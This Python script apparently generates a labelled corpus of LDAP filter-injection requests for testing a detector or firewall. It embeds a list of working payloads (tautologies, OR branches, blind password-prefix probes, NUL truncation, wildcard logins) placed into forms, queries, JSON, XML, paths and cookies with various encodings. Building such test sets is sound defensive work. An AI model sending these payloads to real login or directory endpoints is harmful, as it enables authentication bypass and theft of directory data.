"""LDAP injection: ``attacks/1130-ldap.yaml``.

An application builds a search filter such as ``(&(uid=<input>)(userPassword=
<input>))`` or ``(cn=*<input>*)``. Injections close the assertion the input
sits in and add their own: a tautology (``*)(uid=*))(|(uid=*``), an OR branch
(``admin)(|(password=*))``), an always-true ``(&)``, a NOT, attribute probes
for blind extraction (``admin)(userPassword=a*``), a NUL to cut the rest of
the filter, wildcards alone in login fields, and whole filters sent where a
name is expected. Placements: login forms, directory search queries, JSON
APIs, XML (SOAP-style) bodies, the path of a people directory, a cookie;
encodings: plain, double URL, ``%u``, HTML entities where a form decodes them.
"""

from __future__ import annotations

from typing import Any
from urllib.parse import quote, quote_plus

from common import (
    API_HEADERS,
    BROWSER_HEADERS,
    ENCODINGS,
    case,
    header_safe,
    in_json,
    in_xml,
    request,
    write,
)

FAMILY = "ldap"

PAYLOADS = [
    "*)(uid=*))(|(uid=*",
    "*)(|(objectClass=*)",
    "admin)(&)",
    "admin)(|(password=*))",
    "admin)(!(&(1=0",
    "*)(cn=*)",
    "x)(objectClass=*",
    "admin*)((|userPassword=*)",
    "*)(userPassword=*)(|(uid=*",
    "admin)(userPassword=a*",
    "admin)(description=*",
    "*)(mail=*@*)",
    "jdoe)(|(memberOf=cn=Domain Admins,cn=Users,dc=corp,dc=example,dc=com)",
    "*)(objectClass=user))(&(objectClass=void",
    "*))%00",
    "admin))(|(uid=*",
    "*)(sAMAccountName=*",
    "*)(|(userAccountControl:1.2.840.113556.1.4.803:=2)",
    ")(cn=*))(|(cn=*",
    "*)(telephoneNumber=*",
    "smith)(!(cn=",
    "*)(&(objectClass=person)(uid=admin",
    "x*)(|(pwdLastSet>=0",
    "a)(|(givenName~=adm",
    "*()|&'",
    "*)(uid=*)(|(uid=*))%00",
]

# Whole filters where a plain value is expected.
FILTERS = [
    "(&(uid=*)(userPassword=*))",
    "(|(uid=*)(cn=*))",
    "(&(objectClass=*)(|(cn=admin)(cn=root)))",
]


def login_form(v: str) -> dict[str, Any]:
    body = f"username={quote_plus(v)}&password=Winter2024%21"
    return request("POST", "/login", {**BROWSER_HEADERS,
                                      "Content-Type": "application/x-www-form-urlencoded"}, body)


def directory_query(v: str) -> dict[str, Any]:
    return request("GET", f"/directory/search?name={quote_plus(v)}&dept=all")


def people_path(v: str) -> dict[str, Any]:
    return request("GET", "/people/" + quote(v, safe=""))


def cookie(v: str) -> dict[str, Any]:
    return request("GET", "/portal", {**BROWSER_HEADERS, "Cookie": f"sid=8c1f; user={quote(v)}"})


PLACES = {
    "form": login_form,
    "query": directory_query,
    "json": in_json("uid", "/api/v1/directory/lookup"),
    "xml": in_xml("username", "/ws/auth"),
    "path": people_path,
    "cookie": cookie,
}


def ldap(stage_input: dict[str, Any], desc: str, placement: str, encoding: str,
         technique: str) -> dict[str, Any]:
    tags = [f"placement:{placement}", f"encoding:{encoding}", f"technique:{technique}"]
    return case(stage_input, family=FAMILY, attack=True, desc=desc, tags=tags)


def build() -> list[dict[str, Any]]:
    out: list[dict[str, Any]] = []
    order = ("form", "query", "json", "xml", "path", "cookie")
    for i, payload in enumerate(PAYLOADS):
        # plain in two placements, rotating
        for j in range(2):
            where = order[(i + j) % len(order)]
            if where == "cookie" and not header_safe(payload):
                where = "form"
            out.append(ldap(PLACES[where](payload), f"{where}: {payload}", where, "plain",
                            "filter-injection"))
        # one encoded variant in a query or form field
        enc = ("double-url", "unicode-u", "html-entity", "mixed-case")[i % 4]
        where = "form" if enc == "html-entity" else "query"
        out.append(ldap(PLACES[where](ENCODINGS[enc](payload)), f"{where} ({enc}): {payload}",
                        where, enc, "filter-injection"))
    for payload in FILTERS:
        for where in ("form", "json"):
            out.append(ldap(PLACES[where](payload), f"{where}: whole filter {payload}", where,
                            "plain", "filter-injection"))
    # Wildcards alone in a login name (match every entry / guess by prefix).
    for name, desc in [("*", "wildcard user name"), ("adm*", "prefix wildcard user name"),
                       ("a*", "single-letter prefix (blind enumeration)")]:
        out.append(ldap(login_form(name), f"form: {desc}", "form", "plain", "wildcard"))
    out.append(ldap(in_json("username", "/api/v1/login")("*"), "JSON: wildcard user name",
                    "json", "plain", "wildcard"))
    out.append(ldap(request("POST", "/api/v1/login", {**API_HEADERS,
                                                      "Content-Type": "application/json"},
                            '{"username": "j*", "password": "x"}'),
                    "JSON: prefix wildcard login", "json", "plain", "wildcard"))
    return out


def main() -> None:
    write("attacks/1130-ldap.yaml", 1130000,
          "LDAP filter injection: closing the assertion and adding tautologies, OR/NOT branches, "
          "attribute probes, NUL truncation, wildcards in login names, whole filters", build())


if __name__ == "__main__":
    main()
